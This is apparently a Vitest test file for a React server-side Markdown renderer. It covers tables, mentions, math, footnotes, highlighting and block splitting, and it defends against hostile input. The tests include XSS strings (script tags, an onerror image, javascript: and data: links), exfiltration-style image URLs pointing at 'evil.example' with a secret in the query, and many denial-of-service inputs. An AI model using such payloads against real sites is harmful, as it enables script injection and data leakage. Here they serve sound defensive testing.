import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, test } from "vitest";
import { TranslationsProvider } from "@/components/i18n/words";
import { splitIntoBlocks } from "@/lib/platform/markdown/blocks.mjs";
import { read, readWithin } from "@/lib/platform/markdown/parse.mjs";
import { TooMuchWork, Work } from "@/lib/platform/markdown/work.mjs";
import { compileWords } from "@/lib/platform/words/catalogue";
import { createTranslate } from "@/lib/platform/words/translate";
import { processorTime } from "@/test/processor-time";
import { highlight } from "./highlight";
import { MentionLink, type RenderMention } from "./mention";
import { PAGE_WORK_BUDGET, renderOnServer } from "./server-markdown";

const reader = { language: "en", locale: "en-GB" } as const;
const words = await compileWords("en", ["markdown"]);
const t = createTranslate<"markdown">(reader, words.markdown);
const html = (text: string, mention?: RenderMention) =>
  renderToStaticMarkup(
    <TranslationsProvider reader={reader} words={words}>
      {renderOnServer(t, text, new Work(PAGE_WORK_BUDGET), mention)}
    </TranslationsProvider>,
  );

describe("Markdown renders", () => {
  test("tables, lists, links and emphasis", () => {
    const shown = html(
      "# Title\n\n**bold** [site](https://example.com)\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done",
    );
    for (const part of [
      '<h1 aria-level="2">Title</h1>',
      "<strong>bold</strong>",
      'rel="noopener noreferrer nofollow"',
      "<td>1</td>",
      "checkbox",
    ])
      expect(shown).toContain(part);
  });

  test("mentions of known names, but not in code, links and addresses", () => {
    const known = ["ann", "ann-lee"];
    const mention: RenderMention = ({ name, text }) =>
      known.includes(name) ? <MentionLink {...{ name, text }} isOwn={name === "ann"} /> : text;
    const shown = html(
      "@Ann, **@ann-lee**: @bob, `@ann`, me@ann.example and [@ann](https://ann.example).\n\n    @ann",
      mention,
    );
    expect(shown.match(/<a [^>]*class="[^"]*mention"[^>]*>[^<]*<\/a>/g)).toEqual([
      '<a href="#@ann" aria-haspopup="dialog" dir="auto" class="mention own-mention">@Ann</a>',
      '<a href="#@ann-lee" aria-haspopup="dialog" dir="auto" class="mention">@ann-lee</a>',
    ]);
    expect(shown).toContain("@bob, <code>@ann</code>");
    expect(html("@ann")).toContain("<p>@ann</p>");
  });

  test("code verbatim and highlighted", () => {
    expect(html("```ts\nconst a = 1;\n```")).toContain("<code>const a = 1;</code>");
    expect(highlight("const a = 1;", "ts")?.[0]).toEqual({ classes: "hljs-keyword", parts: ["const"] });
    expect(highlight("x", "no-language")).toBeUndefined();
  });

  test("any number of backticks within code as code", () => {
    const code = "*a_ [x](y) `c` | ~ $\n".repeat(1500);
    expect(html(`\`\`\`\n${code}\`\`\``)).toContain(code.trimEnd().replaceAll("&", "&amp;"));
  });

  test("math in the three notations that models use", () => {
    for (const text of ["$a^2$", "\\(a^2\\)", "$$\na^2\n$$"]) expect(html(text)).toContain("<msup>");
    for (const text of ["\\[a^2\\]", "$$a^2$$", "So $$a^2$$ it is", "So\n\\[\na^2\n\\]", "- So\n  $$a^2$$"])
      expect(html(text), text).toContain('display="block"');
    for (const text of ["`\\(a\\)` costs $5", "between $5 and $6", "$ a $", "\\$a\\$", "$$"])
      expect(html(text), text).not.toContain("<math");
  });

  test.each([
    "It costs $5 to $10. A $20 fee applies; the plan is $99",
    "$5/month or $50/year, and **$5**–$10",
    "US$5, $1,000 and 20$; from $5k to 10k$",
    "One is $9, two $12, $n",
  ])("sums of money as text: %s", (text) =>
    expect(html(text).replace(/<[^>]*>/g, "")).toBe(text.replaceAll("*", "")),
  );

  test("plain addresses as links, and footnotes where they are defined", () => {
    const shown = html("See www.example.com/a, https://example.com/b. or ada@example.com; main.py is none");
    for (const address of ["http://www.example.com/a", "https://example.com/b", "mailto:ada@example.com"])
      expect(shown).toContain(`href="${address}"`);
    expect(shown.match(/<a /g)).toHaveLength(3);
    expect(html("So it is.[^1]\n\n[^1]: Says **Ada**.")).toMatch(
      /is\.<sup>1<\/sup>.*<sup>1<\/sup> Says <strong>Ada<\/strong>/s,
    );
  });

  test("text that looks like HTML as text", () => {
    const shown = html('<script>alert(1)</script><img src=x onerror="alert(1)">');
    expect(shown).not.toContain("<script");
    expect(shown).not.toContain("<img");
  });
});

describe("Markdown leaks nothing from the page", () => {
  test.each([
    "![x](https://evil.example/?q=secret)",
    "![x][1]\n\n[1]: https://evil.example/?q=secret",
    "[![x](https://evil.example/p.png)](https://evil.example)",
    "![x](//evil.example/p.png)",
  ])("external images are not fetched: %s", (text) => {
    const shown = html(text);
    expect(shown).not.toContain("<img");
    expect(shown).not.toContain("preload");
  });

  test("links with executable schemes are emptied", () => {
    expect(html("[x](javascript:alert(1)) [y](data:text/html,x) [z](vbscript:x)")).not.toMatch(
      /javascript:|data:|vbscript:/,
    );
  });
});

const hostile: [string, string][] = [
  ["nested lists in one line", "- ".repeat(2000)],
  ["nested quotes", ">".repeat(10_000)],
  ["a longer run of quotes", ">".repeat(50_000)],
  ["open links", "[a](".repeat(20_000)],
  ["open brackets", "[".repeat(50_000)],
  ["open pictures", "![".repeat(20_000)],
  ["emphasis", "*a ".repeat(30_000)],
  ["mixed emphasis", "*a_ ".repeat(20_000)],
  ["nested lists by indentation", Array.from({ length: 500 }, (_, i) => `${"  ".repeat(i)}- a`).join("\n")],
  ["ordered lists in one line", "1. ".repeat(3000)],
  ["alternating containers", "> - ".repeat(3000)],
  ["code marks", "`".repeat(50_000)],
  ["beginnings of formulas in one line", "\\[".repeat(50_000)],
  ["names without an end", "www.-".repeat(20_000)],
  ["rising code marks", Array.from({ length: 300 }, (_, i) => "`".repeat(i)).join(" ")],
  ["tags", "<a ".repeat(20_000)],
  ["a wide table", `${"|a".repeat(5000)}\n${"|-".repeat(5000)}\n${"|b".repeat(5000)}`],
  ["math", "$\\frac{".repeat(4000)],
  ["braces in math", `$${"{".repeat(3000)}${"}".repeat(3000)}$`],
  ["macros", "$\\def\\a{\\a\\a}\\a$"],
  ["footnotes", Array.from({ length: 2000 }, (_, i) => `[^${i}]: [^${i + 1}]`).join("\n")],
  ["entities", "&amp;".repeat(20_000)],
  ["lazy quotes", Array.from({ length: 300 }, (_, i) => `${"> ".repeat(i % 40)}x`).join("\n")],
  ["strikethrough", "~~a ".repeat(20_000)],
  ["addresses", "www.a.b ".repeat(12_000)],
  ["e-mail addresses", "a@b.c ".repeat(16_000)],
  ["headings", "# a\n".repeat(20_000)],
  ["one long line", "a".repeat(100_000)],
  ["many lines", "a\n".repeat(50_000)],
  ["many blocks", "a\n\n".repeat(30_000)],
  ["as deep as is allowed", `${"> ".repeat(20)}x\n`.repeat(900)],
  ["as many lists as are allowed", `${"- ".repeat(20)}x\n`.repeat(200)],
  ["as many brackets as are allowed", "[a](".repeat(400)],
  ["as many marks as are allowed", "*a_ ".repeat(3000)],
  ["as many unequal marks as are allowed", "*a **b ".repeat(2000)],
  ["as many open tags as are allowed", "<a b='".repeat(3000)],
  ["short mixed emphasis", "*a_ ".repeat(3000)],
  ["one long mark", `${"*".repeat(10_000)}a${"*".repeat(10_000)}`],
  ["emphasis in emphasis", `${"*a ".repeat(10_000)}${"a* ".repeat(10_000)}`],
  ["underlined headings", "a\n=\n".repeat(20_000)],
  ["closing brackets", "]".repeat(100_000)],
  ["lazy quotes with breaks", "> a\nb\n\n".repeat(12_000)],
  ["open comments", "a <!-- ".repeat(14_000)],
  ["open definitions", "[a\n".repeat(30_000)],
  ["definitions", Array.from({ length: 8000 }, (_, i) => `[a${i}]: b`).join("\n")],
  ["titles", '[a](b "'.repeat(14_000)],
  ["formulas", "$x$ ".repeat(25_000)],
  ["open formulas", "\\(".repeat(50_000)],
  ["open formulas on lines", "\\[\n".repeat(33_000)],
  ["addresses that begin anew", "http://a(".repeat(11_000)],
  ["hosts", "www.".repeat(25_000)],
  ["pictures", "![a](b) ".repeat(12_000)],
  ["tables", "|a\n|-\n|b\n\n".repeat(9000)],
];

describe("hostile input is parsed in linear time", () => {
  // Warms up the JIT, so that compilation isn't measured.
  for (let n = 0; n < 20; n++) html(`${n} *a* [b](c) \`d\` $e$\n\n- f\n\n|g|\n|-|\n|h|`.repeat(20));

  test.each(hostile)("%s", async (_, text) => {
    const given = text.slice(0, 100_000);
    const plain = "A sentence of *plain* words, and `code`.\n\n".repeat(3000).slice(0, given.length);
    const ordinary = await processorTime(() => html(plain));
    expect(await processorTime(() => html(given))).toBeLessThan(Math.max(500, 10 * ordinary));
    expect(await processorTime(() => read(given))).toBeLessThan(Math.max(1000, 10 * ordinary));
  });

  test("a page of hostile messages stays within the work limit, and each shows at least its source", async () => {
    const work = new Work(PAGE_WORK_BUDGET);
    let shown = 0;
    const taken = await processorTime(() => {
      for (const [name, text] of hostile) if (renderOnServer(t, `${name} ${text}`, work)) shown++;
    });
    expect(shown).toBeLessThan(hostile.length);
    expect(taken).toBeLessThan(500);
    for (const [, text] of hostile)
      expect(
        read(text)
          .map(({ source }) => source)
          .join("\n")
          .trim(),
      ).toBe(text.trim());
  });

  test("a text that exceeded the work limit is not parsed again", async () => {
    const text = "*a* ".repeat(50_000);
    expect(() => readWithin(text, new Work(100_000))).toThrow(TooMuchWork);
    expect(
      await processorTime(() => {
        for (let n = 0; n < 100; n++) expect(() => readWithin(text, new Work(100_000))).toThrow(TooMuchWork);
      }),
    ).toBeLessThan(500);
  });

  test("a long text and a large table are rendered completely", () => {
    const ordinary =
      "# Title\n\nSome **bold** words, a [link](https://example.com) and `code`.\n\n- one\n- two\n\n";
    const row = (cell: string) => `${`|${cell}`.repeat(50)}|\n`;
    for (const text of [ordinary.repeat(1000), row("a") + row("-") + row("1").repeat(1000)])
      expect(read(text).every(({ nodes }) => nodes)).toBe(true);
  });

  test.each([
    ['f"{', "python"],
    ['"#{', "ruby"],
    ["`${", "js"],
  ])("highlighting of %s limits its nesting depth", (piece, language) => {
    const depth = (parts: NonNullable<ReturnType<typeof highlight>>): number =>
      Math.max(0, ...parts.map((part) => (typeof part === "string" ? 0 : 1 + depth(part.parts))));
    const parts = highlight(piece.repeat(6000), language)!;
    expect(depth(parts)).toBeLessThan(20);
    expect(JSON.stringify(parts).match(new RegExp(piece[0]!, "g"))?.length).toBeGreaterThan(5000);
  });
});

describe("splitIntoBlocks", () => {
  const long = "word ".repeat(50);

  test("cuts between paragraphs, never within code, math or lists", () => {
    expect(splitIntoBlocks(`${long}\n\nb`)).toEqual([`${long}\n`, "b"]);
    expect(splitIntoBlocks(`\`\`\`\n${long}\n\nb\n\`\`\`\n\nc`)).toEqual([
      `\`\`\`\n${long}\n\nb\n\`\`\`\n`,
      "c",
    ]);
    expect(splitIntoBlocks(`$$\n${long}\n\nb\n$$`)).toHaveLength(1);
    expect(splitIntoBlocks(`\\[\n${long}\n\nb\n\\]\n\nc`)).toHaveLength(2);
    expect(splitIntoBlocks(`1. ${long}\n\n2. b\n\n   more\n\nc`)).toHaveLength(2);
    expect(splitIntoBlocks(`[a][1]${long}\n\nb\n\n[1]: https://example.com`)).toHaveLength(1);
  });

  test("preserves every character", () => {
    const text = `${long}\n\n\n\`\`\`x\n\n~~~\n\`\`\`\n\n- ${long}\n\nc`;
    expect(splitIntoBlocks(text).join("\n")).toBe(text);
  });

  test("keeps earlier blocks stable while the text grows", () => {
    const text = `${long}\n\n${long}\n\n- ${long}\n\n- b\n\n${long}`;
    for (let length = 1; length < text.length; length++) {
      const before = splitIntoBlocks(text.slice(0, length)).slice(0, -1);
      expect(splitIntoBlocks(text).slice(0, before.length)).toEqual(before);
    }
  });
});
